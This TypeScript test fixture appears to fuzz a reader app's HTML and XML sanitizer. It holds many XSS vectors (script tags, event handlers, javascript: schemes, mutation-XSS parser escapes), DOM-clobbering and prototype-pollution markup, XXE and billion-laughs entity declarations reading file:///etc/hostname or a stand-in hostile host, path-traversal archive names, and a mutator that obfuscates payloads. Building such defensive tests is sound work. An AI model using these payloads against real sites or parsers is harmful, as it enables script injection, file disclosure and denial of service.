import { chance } from "../extract/mutate.ts";

/** Runs where anything runs it: the window's test looks whether it did. */
const RUN = "window.__ran=(window.__ran||0)+1";
/** An address that must never be asked for: nothing of the kind is a picture or a page. */
const AWAY = "http://hostile.invalid/";

const EVENTS = ["onload", "onerror", "onclick", "onfocus", "onmouseover", "onbegin", "ontoggle", "onpointerrawupdate", "onanimationstart"];
const SCHEMES = [
  "javascript:",
  "JaVaScRiPt:",
  " javascript:",
  "java\tscript:",
  "java&#10;script:",
  "&#106;avascript:",
  "&#x6A;avascript&colon;",
  "\u0001javascript:",
  "\u00a0javascript:",
  "vbscript:",
  "livescript:",
  "data:text/html,",
  "data:text/html;base64,PHNjcmlwdD4=",
  "data:image/svg+xml,<svg onload=x>",
  "blob:null/",
  "file:///etc/passwd#",
  "feed:javascript:",
  "view-source:javascript:",
  "jar:http://x!/",
  "ms-its:",
  "intent:#Intent;",
  "about:blank#",
  "app://lectern/index.html?",
  "lectern:",
  "chrome://quit?",
];
const CARRIERS: readonly ((address: string) => string)[] = [
  (address) => `<a href="${address}">a link of words</a>`,
  (address) => `<img src="${address}" alt="a boat" width="600" height="400">`,
  (address) => `<img srcset="${address} 2x" alt="a boat" width="600" height="400">`,
  (address) => `<iframe src="${address}" title="a frame"></iframe>`,
  (address) => `<object data="${address}">an object</object>`,
  (address) => `<embed src="${address}">`,
  (address) => `<form action="${address}"><button formaction="${address}">send</button></form>`,
  (address) => `<svg><a xlink:href="${address}"><text y="20">drawn words</text></a></svg>`,
  (address) => `<svg><use href="${address}"/><image href="${address}"/></svg>`,
  (address) => `<math href="${address}"><mi>x</mi></math>`,
  (address) => `<video src="${address}" poster="${address}"><track src="${address}"></video>`,
  (address) => `<base href="${address}"><a href="x">a relative link</a>`,
  (address) => `<meta http-equiv="refresh" content="0;url=${address}">`,
  (address) => `<link rel="stylesheet" href="${address}"><link rel="canonical" href="${address}">`,
  (address) => `<p style="background:url('${address}')">a styled paragraph</p>`,
  (address) => `<style>@import "${address}";*{background:url("${address}")}</style>`,
  (address) => `<table background="${address}"><tr><td>a cell</td></tr></table>`,
  (address) => `<input type="image" src="${address}"><isindex action="${address}">`,
  (address) => `<blockquote cite="${address}">a quotation of some words</blockquote>`,
];

/** What breaks out of where it is put: what two parsers understand differently. */
const ESCAPES: readonly string[] = [
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<svg></p><style><a id="</style><img src=1 onerror=${RUN}>">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<select><template><script>${RUN}</script></template></select>`,
  `<textarea></textarea><img src=x onerror=${RUN}>`,
  `<title></title><script>${RUN}</script>`,
  `<xmp></xmp><script>${RUN}</script>`,
  `<plaintext><script>${RUN}</script>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[><script>${RUN}</script>]]>`,
  `<?xml-stylesheet href="${AWAY}s.xsl" type="text/xsl"?><p>words</p>`,
  `<svg><foreignObject><iframe srcdoc="&lt;script&gt;parent.${RUN}&lt;/script&gt;"></iframe></foreignObject></svg>`,
  `<svg><animate attributeName=href values="javascript:${RUN}"/><a id=x><text y=9>x</text></a></svg>`,
  `<svg><set attributeName="onmouseover" to="${RUN}"/></svg>`,
  `<svg><script href="${AWAY}s.js"/></svg>`,
  `<img src=x:x onerror\u000b=${RUN}>`,
  `<img/src/onerror=${RUN}>`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<<script>script>${RUN}<</script>/script>`,
  `<script x>${RUN}</script x>`,
  `<script>${RUN}<!--<script>--></script>`,
  `+ADw-script+AD4-${RUN}+ADw-/script+AD4-`,
  `<details open ontoggle=${RUN}><summary>more</summary>text</details>`,
  `<div contenteditable onbeforeinput=${RUN} autofocus onfocus=${RUN} tabindex=1>words</div>`,
  `<marquee onstart=${RUN}>words</marquee>`,
  `<p onclick=${RUN} id=x>a paragraph</p><a href=#x>to it</a>`,
  `<a href="https://fine.example/" ping="${AWAY}ping" target=_blank onclick=${RUN}>a fine link</a>`,
  `<div style="width:expression(${RUN});behavior:url(#default#time2);-moz-binding:url(${AWAY}x)">words</div>`,
  `<template shadowrootmode=open><script>${RUN}</script></template>`,
  `<script type="importmap">{"imports":{"x":"data:text/javascript,${RUN}"}}</script><script type=module>import "x"</script>`,
  `<script type="speculationrules">{"prefetch":[{"source":"list","urls":["${AWAY}p"]}]}</script>`,
];

/** What a program takes for a part of itself: names of the prototype, of the page and of forms. */
const CLOBBERS: readonly string[] = [
  '<form id="desktop"><input name="openOutside"></form>',
  '<img name="reader"><img id="__proto__"><a id="constructor" name="prototype">words</a>',
  '<form name="body"><input name="parentNode"><input name="attributes"></form>',
  '<a id=defaultView href="tel:1">x</a><a id=location href="https://fine.example/">y</a>',
  '<script type="application/ld+json">{"@type":"NewsArticle","headline":"x","__proto__":{"polluted":1},"constructor":{"prototype":{"polluted":1}}}</script>',
  '<meta property="__proto__" content="x"><meta name="constructor" content="x"><meta property="og:__proto__" content="x">',
  '<div data-__proto__="x" aria-__proto__="x" lang="__proto__" class="__proto__ constructor">words of the prototype</div>',
];

/** Markup that runs, leaves or takes a place in a careless program: some hundred shapes, written for these tests. */
export const VECTORS: readonly string[] = [
  `<script>${RUN}</script>`,
  `<script src="${AWAY}s.js"></script>`,
  ...EVENTS.map((event) => `<img src="x" alt="a boat" ${event}="${RUN}">`),
  ...EVENTS.map((event) => `<svg ${event}=${RUN}><text y=9>words</text></svg>`),
  ...CARRIERS.flatMap((carry) => SCHEMES.map((scheme) => carry(`${scheme}${RUN.replaceAll('"', "'")}`))),
  ...ESCAPES,
  ...CLOBBERS,
];

const FILE = "file:///etc/hostname";
const doctype = (subset: string, root: string): string => `<?xml version="1.0"?>\n<!DOCTYPE ${root} [${subset}]>\n`;

/** Declarations that an XML parser must not follow: each with the entity that it makes. */
const DECLARATIONS: readonly string[] = [
  `<!ENTITY e "words">`,
  `<!ENTITY e SYSTEM "${FILE}">`,
  `<!ENTITY e PUBLIC "x" "${AWAY}e.xml">`,
  `<!ENTITY % p SYSTEM "${AWAY}p.dtd"> %p; <!ENTITY e "x">`,
  `<!ENTITY a "&e;"><!ENTITY e "&a;">`,
  `<!ENTITY a0 "ha"> ${Array.from({ length: 30 }, (_, n) => `<!ENTITY a${n + 1} "&a${n};&a${n};">`).join("")} <!ENTITY e "&a30;">`,
  `<!ENTITY e "${"x".repeat(50_000)}">`,
];

/** Documents of the kinds that are read as XML, with every declaration: feeds, lists of subscriptions, lexicons. */
export const XML_DOCUMENTS: readonly string[] = DECLARATIONS.flatMap((declaration) => [
  `${doctype(declaration, "rss")}<rss version="2.0"><channel><title>&e;</title><item><title>t &e;</title><link>https://fine.example/1</link><description>&e;&e;</description></item></channel></rss>`,
  `${doctype(declaration, "feed")}<feed xmlns="http://www.w3.org/2005/Atom"><title>&e;</title><entry><title>&e;</title><id>1</id><content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>&e;</p></div></content></entry></feed>`,
  `${doctype(declaration, "opml")}<opml version="2.0"><body><outline text="&e;" xmlUrl="&e;"/></body></opml>`,
  `${doctype(declaration, "lexicon")}<lexicon version="1.0" xmlns="http://www.w3.org/2005/01/pronunciation-lexicon" alphabet="ipa" xml:lang="en"><lexeme><grapheme>&e;</grapheme><alias>&e;</alias></lexeme></lexicon>`,
]);

/** Names that lead out of an archive's folder. */
export const ARCHIVE_NAMES: readonly string[] = [
  "../../evil.xhtml",
  "/etc/evil.xhtml",
  "..\\..\\evil.xhtml",
  "C:\\evil.xhtml",
  "a/../../evil.xhtml",
  "__proto__",
];

const WRAPS: readonly (readonly [string, string])[] = [
  ["<svg>", "</svg>"],
  ["<math><mtext>", "</mtext></math>"],
  ["<noscript>", "</noscript>"],
  ["<template>", "</template>"],
  ["<table><tr><td>", "</td></tr></table>"],
  ["<textarea>", "</textarea>"],
  ["<title>", "</title>"],
  ["<style>", "</style>"],
  ["<!--", "-->"],
  ["<![CDATA[", "]]>"],
  ["<iframe srcdoc='", "'></iframe>"],
  ["<p title='", "'>words</p>"],
];

/** Changes a vector in one to four ways: wrapped, written with entities, cut, joined with another, strewn with signs. */
export function mutateVector(vectors: readonly string[], seed: number): string {
  const pick = chance(seed);
  const one = (): string => vectors[pick(vectors.length)] ?? "";
  let text = one();
  for (let changes = 1 + pick(4); changes > 0; changes--) {
    const at = pick(text.length + 1);
    switch (pick(8)) {
      case 0: {
        const [before, after] = WRAPS[pick(WRAPS.length)] ?? ["", ""];
        text = before + text + after;
        break;
      }
      case 1:
        text =
          text.slice(0, at) +
          ["\0", "\t", "\n", "\f", "\u00a0", "\u200b", "/", "<", ">", '"', "'", "`", "&", "="][pick(14)] +
          text.slice(at);
        break;
      case 2:
        text = text.slice(0, at) + one() + text.slice(at);
        break;
      case 3:
        text = text.slice(0, at);
        break;
      case 4: {
        const code = text.charCodeAt(at);
        if (!Number.isNaN(code)) text = `${text.slice(0, at)}&#${pick(2) === 0 ? code : `x${code.toString(16)}`};${text.slice(at + 1)}`;
        break;
      }
      case 5:
        text = [...text].map((sign) => (pick(3) === 0 ? (pick(2) === 0 ? sign.toUpperCase() : sign.toLowerCase()) : sign)).join("");
        break;
      case 6:
        text = text.replaceAll("<", "&lt;").replaceAll(">", "&gt;");
        break;
      default:
        text = text.slice(at) + text.slice(0, at);
    }
  }
  return text;
}
